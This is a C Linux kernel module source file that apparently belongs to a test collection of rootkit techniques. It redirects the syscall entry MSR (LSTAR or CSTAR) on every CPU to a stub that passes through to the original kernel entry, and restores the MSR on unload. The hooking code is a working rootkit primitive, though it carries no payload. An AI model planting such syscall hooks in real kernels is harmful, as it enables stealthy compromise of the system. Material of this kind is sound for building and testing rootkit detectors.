// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the MSR that says where SYSCALL enters the kernel (how=lstar; how=cstar: of 32-bit programs) leads to the
 * module, which goes on to the kernel's entry. Who: published for Linux in Phrack 68 and by enyelkm's successors.
 * Changes: the MSR on every CPU. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/msr.h>
#include <linux/smp.h>

VARIANT("lstar");

unsigned long ringside_original_entry;
void hooked_entry(void);
/* jmp *ringside_original_entry(%rip), in code that no compiler changes: registers and stack are the program's. */
asm(".text\n.globl hooked_entry\n.type hooked_entry, @function\nhooked_entry:\n"
    ".byte 0xff, 0x25\n.long ringside_original_entry - . - 4\n.size hooked_entry, . - hooked_entry\n");

static u32 msr;

static void set(void *value)
{
	unsigned long v = (unsigned long)value;

	asm volatile("wrmsr" : : "c"(msr), "a"((u32)v), "d"((u32)(v >> 32)));
}

static int __init start(void)
{
	u32 low, high;

	msr = HOW("lstar") ? 0xc0000082 : 0xc0000083;
	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(msr));
	ringside_original_entry = low | (u64)high << 32;
	on_each_cpu(set, hooked_entry, 1);
	return 0;
}

static void __exit stop(void)
{
	on_each_cpu(set, (void *)ringside_original_entry, 1);
}

ATTACK(start, stop);
